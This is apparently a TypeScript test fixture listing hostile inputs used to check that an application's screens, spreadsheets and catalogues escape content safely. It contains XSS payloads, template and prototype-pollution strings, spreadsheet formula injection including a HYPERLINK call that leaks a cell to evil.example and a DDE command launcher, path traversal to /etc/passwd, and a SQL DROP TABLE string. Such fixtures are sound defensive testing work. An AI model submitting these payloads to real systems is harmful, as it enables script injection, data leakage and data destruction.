/** Names and remarks that attack screens, sheets and catalogues. */
export const HOSTILE_NAMES = [
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '<script>alert(1)</script>',
  '</title><iframe srcdoc="<script>parent.alert(1)</script>">',
  "<a href='javascript:alert(1)'>x</a>",
  'javascript:alert(1)',
  '{{name}} {{count, number}} ${7*7} #{7*7}',
  '$t(common:action.delete) $t(name, {"count": 1})',
  'common:error.title|{"x"',
  '__proto__',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '＝1+1',
  '@SUM(1)\t=1',
  "=cmd|' /C calc'!A0",
  '\u202egnp.exe\u2066',
  'nul\u0000\u0008\u001b[31m',
  '\ud800 lone \udfff',
  '👩‍👩‍👧‍👦🏳️‍🌈 é̴̷̸',
  '../../../etc/passwd',
  'CON.xlsx:$DATA',
  "'; DROP TABLE staff; --",
  'long '.repeat(2000),
] as const;

/** Addresses that no picture may have. */
export const HOSTILE_PICTURES = [
  'javascript:alert(1)',
  ' \tJaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'about:blank',
] as const;
